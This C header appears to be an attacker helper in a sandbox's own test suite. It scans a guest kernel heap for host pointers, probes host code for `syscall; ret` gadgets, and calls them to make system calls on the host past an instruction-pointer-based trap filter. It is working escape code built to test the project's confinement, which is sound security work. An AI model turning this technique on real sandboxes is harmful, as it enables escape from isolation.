// What a hostile guest can do in a single address space: read the kernel
// heap, follow the host pointers it finds there into host code, and call a
// `syscall; ret` sequence of the host's own text, which the trap filter lets
// through because its instruction pointer is the kernel's. The attacker
// programs use this to reach the host kernel directly; what stops them is
// the host process's own confinement.
//
// Compile with -mno-red-zone: gadget_sys() pushes a return address below
// the stack pointer.
#pragma once
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define KERNEL_HEAP_BASE 0x7e0000000000ull
#define KERNEL_HEAP_SPAN (64ull << 30)
// How much of the heap is searched for host pointers: the kernel object
// and everything allocated at start lie at its beginning. Pages of a
// shared anonymous mapping are allocated on first touch, so the scan
// stays small.
#define HEAP_SCAN_BYTES (4ull << 20)
// How far a host code region is searched from a pointer into it.
#define TEXT_SCAN_PAGES 1024

static sigjmp_buf probe_env;
static volatile sig_atomic_t probing;

static void probe_fault(int sig) {
  if (probing) siglongjmp(probe_env, 1);
  signal(sig, SIG_DFL);
  raise(sig);
}

static void probe_install(void) {
  struct sigaction sa;
  memset(&sa, 0, sizeof sa);
  sa.sa_handler = probe_fault;
  sa.sa_flags = SA_NODEFER;
  sigaction(SIGSEGV, &sa, NULL);
  sigaction(SIGBUS, &sa, NULL);
  sigaction(SIGILL, &sa, NULL);
}

static int in_kernel_heap(uintptr_t p) {
  return p >= KERNEL_HEAP_BASE && p < KERNEL_HEAP_BASE + KERNEL_HEAP_SPAN;
}

// Copies a page, or says it cannot be read.
static int read_page(uintptr_t page, unsigned char* out) {
  if (sigsetjmp(probe_env, 1)) {
    probing = 0;
    return 0;
  }
  probing = 1;
  memcpy(out, (const void*)page, 4096);
  probing = 0;
  return 1;
}

// A host system call through the gadget `g` (the address of a 0f 05 c3).
static long gadget_raw(uintptr_t g, long nr, long a1, long a2, long a3, long a4, long a5, long a6) {
  long ret;
  register long r10 __asm__("r10") = a4;
  register long r8 __asm__("r8") = a5;
  register long r9 __asm__("r9") = a6;
  __asm__ volatile("call *%[g]"
                   : "=a"(ret)
                   : [g] "r"(g), "a"(nr), "D"(a1), "S"(a2), "d"(a3), "r"(r10), "r"(r8), "r"(r9)
                   : "rcx", "r11", "memory", "cc");
  return ret;
}

static uintptr_t the_gadget;

#define GADGET_ARGS6(nr, a, b, c, d, e, f, ...) \
  gadget_raw(the_gadget, (nr), (long)(a), (long)(b), (long)(c), (long)(d), (long)(e), (long)(f))
// gadget_sys(nr, args...): the host's answer, >= 0 or -errno.
#define gadget_sys(...) GADGET_ARGS6(__VA_ARGS__, 0, 0, 0, 0, 0, 0, 0)

// Calls a candidate gadget with getpid, surviving a fault (a data page,
// a sequence that is not an instruction boundary of executable code).
static long try_gadget(uintptr_t g) {
  if (sigsetjmp(probe_env, 1)) {
    probing = 0;
    return -1;
  }
  probing = 1;
  long r = gadget_raw(g, SYS_getpid, 0, 0, 0, 0, 0, 0);
  probing = 0;
  return r;
}

// Pages already searched, so a region is scanned once however many
// pointers lead into it.
#define SEEN_SLOTS 65536
static uintptr_t seen[SEEN_SLOTS];

static int seen_before(uintptr_t page) {
  size_t i = (size_t)((page >> 12) * 0x9e3779b97f4a7c15ull >> 48) % SEEN_SLOTS;
  for (size_t n = 0; n < SEEN_SLOTS; n++, i = (i + 1) % SEEN_SLOTS) {
    if (seen[i] == page) return 1;
    if (seen[i] == 0) {
      seen[i] = page;
      return 0;
    }
  }
  return 1;
}

// Walks forward from a page the heap points into, while pages can be
// read, trying every `syscall; ret`. A gadget is the host's when its getpid
// is not the guest's own pid (flatux would have answered a trapped one).
static uintptr_t scan_region(uintptr_t page, long guest_pid, int* tried) {
  static unsigned char buf[4096];
  for (int i = 0; i < TEXT_SCAN_PAGES; i++, page += 4096) {
    if (seen_before(page)) return 0;
    if (!read_page(page, buf)) return 0;
    for (int off = 0; off + 3 <= 4096; off++) {
      if (buf[off] != 0x0f || buf[off + 1] != 0x05 || buf[off + 2] != 0xc3) continue;
      (*tried)++;
      long r = try_gadget(page + (uintptr_t)off);
      if (r > 0 && r != guest_pid) return page + (uintptr_t)off;
    }
  }
  return 0;
}

// Finds a host gadget from the kernel heap's pointers; 0 when there is none.
// *host_pid gets what the host's getpid said through it.
static uintptr_t find_gadget(long* host_pid, int* candidates, int* tried) {
  probe_install();
  long guest_pid = getpid();
  static unsigned char page_buf[4096];
  *candidates = 0;
  *tried = 0;
  for (uintptr_t hp = KERNEL_HEAP_BASE; hp < KERNEL_HEAP_BASE + HEAP_SCAN_BYTES; hp += 4096) {
    if (!read_page(hp, page_buf)) break;
    const uint64_t* q = (const uint64_t*)page_buf;
    for (int i = 0; i < 512; i++) {
      uint64_t v = q[i];
      if (v < 0x10000 || v >= 0x800000000000ull || in_kernel_heap(v)) continue;
      (*candidates)++;
      uintptr_t g = scan_region(v & ~0xfffull, guest_pid, tried);
      if (g) {
        the_gadget = g;
        *host_pid = try_gadget(g);
        return g;
      }
    }
  }
  return 0;
}
